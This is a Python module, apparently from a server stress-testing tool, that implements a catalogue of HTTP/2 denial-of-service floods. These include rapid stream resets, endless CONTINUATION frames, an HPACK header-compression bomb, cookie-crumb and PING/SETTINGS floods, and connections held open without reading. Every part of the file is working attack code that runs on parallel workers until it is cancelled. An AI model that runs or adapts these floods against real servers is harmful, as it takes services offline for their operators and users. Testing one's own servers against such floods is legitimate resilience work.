"""Floods over HTTP/2: of frames that cost the sender nothing. Each goes on until it is cancelled."""

import asyncio
import struct
from collections.abc import Awaitable, Callable, Iterable, Iterator

from attacks.floods import DEAF, PATIENCE_SECONDS, READ_BYTES_MAX, Progress, close_all, repeat, scaled
from core import http2
from core.attack import Need
from core.scene import Scene
from core.target import Way
from core.wire import Connection, Exchange

STREAMS = 1000
FRAMES = 4000
WORKERS = 4
Flood = Callable[[Scene, Progress], Awaitable[None]]


def sending(frames: Callable[[Scene, bytes], Iterable[bytes]], way: Way = Way.H2C, settings: bytes | None = None) -> Flood:
    """A flood of connections that each begin rightly, send the frames in one go, and read for a moment."""

    async def flood(scene: Scene, progress: Progress) -> None:
        door = scene.target.door(way)
        assert door

        async def once() -> Exchange:
            async with Connection(door, alpn="h2", patience=PATIENCE_SECONDS) as connection:
                await connection.send(http2.start() if settings is None else http2.PREFACE + settings)
                await connection.read(lambda exchange: len(exchange.received) >= 9)
                await connection.send(b"".join(frames(scene, b"https" if door.tls else b"http")))
                return await connection.read(_enough, patience=0.5)

        await repeat(progress, once, WORKERS)

    return flood


def _enough(exchange: Exchange) -> bool:
    return len(exchange.received) > READ_BYTES_MAX or http2.said_goodbye(exchange.received)


def deaf(frames: Callable[[Scene, bytes], Iterable[bytes]]) -> Flood:
    """The same on connections that stay open and from which nothing is read."""

    async def flood(scene: Scene, progress: Progress) -> None:
        door = scene.target.door(Way.H2C)
        assert door
        opened = []
        try:
            for _ in range(scaled(scene, DEAF)):
                connection = Connection(door, alpn="h2", patience=0.05)
                await connection.__aenter__()
                opened.append(connection)
                await connection.send(http2.PREFACE + http2.settings({4: 0}) + b"".join(frames(scene, b"http")))
            progress.under_way.set()
            await asyncio.Event().wait()
        finally:
            await close_all(opened)

    return flood


def _heads(
    scene: Scene, scheme: bytes, *, path: bytes | None = None, end: bool = True, count: int = STREAMS
) -> Iterator[bytes]:
    for number in range(count):
        pseudo = [
            (b":method", b"GET" if end else b"POST"),
            (b":scheme", scheme),
            (b":authority", scene.target.host),
            (b":path", path or scene.target.path),
        ]
        yield http2.headers(pseudo, 1 + 2 * number, end=end)


def _reset(scene: Scene, scheme: bytes, path: bytes | None = None) -> Iterator[bytes]:
    for number, head in enumerate(_heads(scene, scheme, path=path)):
        yield head + http2.frame(http2.RST_STREAM, 0, 1 + 2 * number, struct.pack(">I", 8))


def _reset_free(scene: Scene, scheme: bytes) -> Iterator[bytes]:
    return _reset(scene, scheme, scene.target.free_path)


def _made_to_reset(scene: Scene, scheme: bytes) -> Iterator[bytes]:
    """Requests that are right, followed by what the server must answer with a reset of its own."""
    for number, head in enumerate(_heads(scene, scheme, path=scene.target.free_path)):
        yield head + http2.frame(http2.WINDOW_UPDATE, 0, 1 + 2 * number, struct.pack(">I", 0))


def _continuations(size: int) -> Callable[[Scene, bytes], Iterator[bytes]]:
    def frames(_scene: Scene, _scheme: bytes) -> Iterator[bytes]:
        yield http2.frame(http2.HEADERS, http2.END_STREAM, 1, http2.block([(b":method", b"GET")]))
        for number in range(FRAMES):
            payload = http2.block([(b"x-%d" % number, b"y" * size)]) if size else b""
            yield http2.frame(http2.CONTINUATION, 0, 1, payload)

    return frames


def _bomb(scene: Scene, scheme: bytes) -> Iterator[bytes]:
    """A large header goes into the table once, and is named by a byte thousands of times."""
    pseudo = http2.block(
        [(b":method", b"GET"), (b":scheme", scheme), (b":authority", scene.target.host), (b":path", scene.target.path)]
    )
    large = b"\x40" + http2.block([(b"x", b"y" * 3900)])[1:]
    for number in range(50):
        block = pseudo + (large if number == 0 else b"") + b"\xbe" * 12_000
        yield http2.frame(http2.HEADERS, http2.END_STREAM | http2.END_HEADERS, 1 + 2 * number, block)


def _cookies(scene: Scene, scheme: bytes) -> Iterator[bytes]:
    """Cookies may come in crumbs."""
    pseudo = [(b":method", b"GET"), (b":scheme", scheme), (b":authority", scene.target.host), (b":path", scene.target.path)]
    for number in range(20):
        yield http2.headers(pseudo + [(b"cookie", b"")] * 6000, 1 + 2 * number)


def _frames(
    kind: int, flags: int, stream: int, payload: bytes, count: int = FRAMES
) -> Callable[[Scene, bytes], Iterator[bytes]]:
    def frames(_scene: Scene, _scheme: bytes) -> Iterator[bytes]:
        return iter([http2.frame(kind, flags, stream, payload)] * count)

    return frames


def _settings(pairs: Iterable[dict[int, int]]) -> Callable[[Scene, bytes], Iterator[bytes]]:
    many = [http2.settings(each) for each in pairs]

    def frames(_scene: Scene, _scheme: bytes) -> Iterator[bytes]:
        return iter(many * (FRAMES // len(many)))

    return frames


def _on_a_stream(kind: int, flags: int, payload: bytes) -> Callable[[Scene, bytes], Iterator[bytes]]:
    """Frames for an upload that stays open."""

    def frames(scene: Scene, scheme: bytes) -> Iterator[bytes]:
        yield from _heads(scene, scheme, path=scene.target.free_path, end=False, count=1)
        yield from [http2.frame(kind, flags, 1, payload)] * FRAMES

    return frames


def _uploads(scene: Scene, scheme: bytes) -> Iterator[bytes]:
    return _heads(scene, scheme, path=scene.target.free_path, end=False)


def _stalled(scene: Scene, scheme: bytes) -> Iterator[bytes]:
    """As many answers as a connection may have under way, none of which may be sent."""
    return _heads(scene, scheme, path=scene.target.free_path, count=100)


def _stalled_priced(scene: Scene, scheme: bytes) -> Iterator[bytes]:
    return _heads(scene, scheme, count=100)


def _unfinished(_scene: Scene, _scheme: bytes) -> Iterator[bytes]:
    yield http2.frame(http2.HEADERS, 0, 1, http2.block([(b":method", b"GET")]))


def _pings(_scene: Scene, _scheme: bytes) -> Iterator[bytes]:
    return iter([http2.frame(http2.PING, 0, 0, bytes(8))] * FRAMES)


def _large_frames(_scene: Scene, _scheme: bytes) -> Iterator[bytes]:
    yield http2.frame(http2.DATA, 0, 1, bytes(1 << 20))


H2C = (Need.H2C,)
FLOODS: dict[str, tuple[Flood, tuple[Need, ...]]] = {
    "h2c: requests for the priced page, reset at once": (sending(_reset), H2C),
    "h2c: requests for a free page, reset at once": (sending(_reset_free), H2C),
    "h2: requests for the priced page, reset at once": (sending(_reset, Way.H2), (Need.HTTP2,)),
    "h2c: requests the server has to reset": (sending(_made_to_reset), H2C),
    "h2c: a thousand requests at once": (sending(_heads), H2C),
    "h2c: uploads that never end": (sending(_uploads), H2C),
    "h2c: CONTINUATION without end": (sending(_continuations(100)), H2C),
    "h2c: empty CONTINUATION without end": (sending(_continuations(0)), H2C),
    "h2c: a bomb of compressed headers": (sending(_bomb), H2C),
    "h2: a bomb of compressed headers": (sending(_bomb, Way.H2), (Need.HTTP2,)),
    "h2c: thousands of crumbs of cookies": (sending(_cookies), H2C),
    "h2c: PING": (sending(_pings), H2C),
    "h2c: SETTINGS": (sending(_settings([{}])), H2C),
    "h2c: SETTINGS that change the windows": (sending(_settings([{4: 0}, {4: 0x7FFFFFFF}])), H2C),
    "h2c: SETTINGS that change the table": (sending(_settings([{1: 0}, {1: 0x7FFFFFFF}])), H2C),
    "h2c: PRIORITY": (sending(_frames(http2.PRIORITY, 0, 3, b"\0\0\0\1\x10")), H2C),
    "h2c: WINDOW_UPDATE": (sending(_frames(http2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))), H2C),
    "h2c: RST_STREAM of streams that never were": (sending(_frames(http2.RST_STREAM, 0, 1, bytes(4))), H2C),
    "h2c: frames of unknown kinds": (sending(_frames(0xEE, 0xFF, 0, b"x" * 100)), H2C),
    "h2c: empty DATA": (sending(_on_a_stream(http2.DATA, 0, b"")), H2C),
    "h2c: DATA of padding alone": (sending(_on_a_stream(http2.DATA, http2.PADDED, b"\xff" + bytes(255))), H2C),
    "h2c: frames larger than allowed": (sending(_large_frames), H2C),
    "h2c: free answers that may not be sent": (deaf(_stalled), H2C),
    "h2c: answers of the priced page that may not be sent": (deaf(_stalled_priced), H2C),
    "h2c: PING whose answers nobody reads": (deaf(_pings), H2C),
    "h2c: heads that never end": (deaf(_unfinished), H2C),
}
"""Each with what it needs."""
